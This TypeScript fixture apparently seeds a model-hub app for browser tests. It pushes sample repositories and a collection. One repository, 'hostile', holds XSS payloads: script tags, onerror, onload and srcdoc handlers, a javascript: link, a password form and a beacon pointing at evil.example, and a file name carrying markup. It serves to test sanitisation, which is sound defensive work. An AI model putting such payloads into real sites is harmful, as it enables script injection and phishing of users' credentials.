/** What the browser tests look at: one repository of each kind, with everything a page has to show. */
import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { safetensorsFile } from '../../support/safetensors-file.ts';
import type { Hub } from '../../wire/harness/hub.ts';
import { fillCards } from './content-cards.ts';
import { addFiles } from './content-files.ts';
import { addHistory } from './content-history.ts';
import { addOrganizations } from './content-organizations.ts';
import { addTables } from './content-tables.ts';
import { addWeights } from './content-weights.ts';
import { removeScratchDir, scratchDir } from '../../wire/harness/scratch.ts';
import { git } from '../../wire/support/git.ts';
import { type RepoOptions, createHubRepo } from '../../wire/support/hub-repos.ts';

type Files = Readonly<Record<string, string | Uint8Array>>;

/** Creates a repository of the admin's and pushes one commit for each set of files. */
export async function pushRepo(
  hub: Hub,
  name: string,
  commits: readonly Files[],
  options: RepoOptions = {},
): Promise<void> {
  const remote = await createHubRepo(hub, name, options);
  const cwd = scratchDir('e2e-repo');
  await git(['init', '-q'], { cwd });
  for (const [index, files] of commits.entries()) {
    for (const [path, content] of Object.entries(files)) {
      await mkdir(dirname(join(cwd, path)), { recursive: true });
      await writeFile(join(cwd, path), content);
    }
    await git(['add', '-A'], { cwd });
    await git(['commit', '-q', '-m', index === 0 ? 'First version' : `Change ${index}`], { cwd });
  }
  await git(['tag', 'v1.0'], { cwd });
  await git(['push', '-q', remote.gitUrl, 'HEAD:refs/heads/main', 'HEAD:refs/heads/feature/x', 'v1.0'], { cwd });
  removeScratchDir(cwd);
}

const CARD = `---
license: apache-2.0
language: [en, de]
pipeline_tag: text-generation
library_name: transformers
base_model: ada/base
tags: [conversational]
---
# Tiny Llama

<p align="center"><img src="fig.svg" width="96" alt="the mark"></p>

A small model. See [usage](#usage), [the config](config.json) and ![badge](https://img.example/badge.svg).

## Usage

\`\`\`python
from transformers import pipeline

pipe = pipeline("text-generation", model="admin/tiny-llama", device_map="auto", torch_dtype="bfloat16")
\`\`\`

## Results

| Benchmark | Shots | Score |
|:--|--:|--:|
| MMLU | 5 | **41.2** |

- [x] tokenizer
- [ ] bigger vocabulary

> [!NOTE]
> Quantised weights are in \`onnx/\`.

<details><summary>Log</summary>

step 1000

</details>
`;

/** Runs, loads or poses as something of the hub when any layer of the defence is missing. */
const HOSTILE_CARD = `---
license: mit
---
# <script>document.title = 'taken over'</script> hostile

<img src="missing.png" onerror="document.title = 'taken over'">
<svg onload="document.title = 'taken over'"></svg>
<iframe srcdoc="<script>parent.document.title = 'taken over'</script>"></iframe>
<style>body { display: none }</style>
<a id="link" href="javascript:document.title='taken over'">press me</a>
<form action="https://evil.example"><input name="password"></form>
<div id="main" data-island="snippet-tabs" data-props="{}">x</div>

![beacon](https://evil.example/beacon.png)
`;

const MARK = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><circle cx="12" cy="12" r="9" fill="#0b6570"/></svg>`;

export async function fillHub(hub: Hub): Promise<void> {
  await pushRepo(hub, 'tiny-llama', [
    {
      'README.md': CARD,
      'config.json': '{\n  "model_type": "llama"\n}\n',
      'fig.svg': MARK,
      'model.safetensors': safetensorsFile(20_000),
      'onnx/quantized/model.onnx': Buffer.from([8, 0, 1, 2]),
      'src/long.py': `print("${'long '.repeat(60)}")\n`.repeat(120),
      'empty.txt': '',
      'ümläut #1?.txt': 'schön\n',
    },
    { 'config.json': '{\n  "model_type": "llama",\n  "vocab_size": 32000\n}\n' },
  ]);
  await pushRepo(hub, 'hostile', [
    {
      'README.md': HOSTILE_CARD,
      'page.html': `<script>document.title = 'taken over'</script>`,
      'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = 'taken over'</script></svg>`,
      '<img src=x onerror=alert(1)>/"><b>.txt': 'x\n',
    },
  ]);
  const data = { 'README.md': '---\ntask_categories: [image-classification]\n---\n# Cats\n', 'data.csv': 'a,b\n1,2\n' };
  await pushRepo(hub, 'cats', [data], { type: 'dataset' });
  await pushRepo(hub, 'demo', [{ 'app.py': 'print(1)\n' }], { type: 'space' });
  await pushRepo(hub, 'train-kit', [{ 'README.md': '# Train kit\n' }], { type: 'code' });
  await pushRepo(hub, 'secret', [{ 'README.md': '# Secret plans\n\n![plan](plan.svg)\n', 'plan.svg': MARK }], {
    private: true,
  });
  await createHubRepo(hub, 'empty');
  await addFiles(hub);
  await addHistory(hub);
  await addOrganizations(hub);
  await addTables(hub);
  await addWeights(hub);
  await fillCards(hub);
}

/** Puts two repositories into a collection, one with a note. Answers the address of its page. */
export async function addCollection(hub: Hub): Promise<string> {
  const post = async (path: string, body: unknown): Promise<unknown> => {
    const answer = await hub.fetch(path, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(body),
    });
    if (!answer.ok) throw new Error(`${path} answered ${answer.status}: ${await answer.text()}`);
    return answer.json();
  };
  const { slug } = (await post('/api/collections', {
    title: 'Starters',
    namespace: 'admin',
    description: 'SMALL ONES',
  })) as { slug: string };
  const items = `/api/collections/${slug}/items`;
  await post(items, { item: { id: 'admin/tiny-llama', type: 'model' }, note: 'FIRST' });
  await post(items, { item: { id: 'admin/cats', type: 'dataset' } });
  return `/collections/${slug}`;
}
